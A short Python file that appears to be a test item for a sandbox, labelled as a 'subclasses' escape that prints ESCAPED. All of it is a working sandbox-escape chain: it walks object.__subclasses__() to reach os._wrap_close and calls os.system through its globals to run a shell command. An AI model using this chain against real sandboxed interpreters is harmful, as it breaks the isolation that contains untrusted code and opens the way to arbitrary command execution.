# kind: subclasses
# effect: prints ESCAPED
class Report:
    pass


root = Report.mro()[-1]
for name in ("__subclasses__",):
    everything = vars(type)[name](root)
files = [c for c in everything if c.__name__ == "_wrap_close"]
files[0].close.__globals__["system"]("echo ESCAPED")
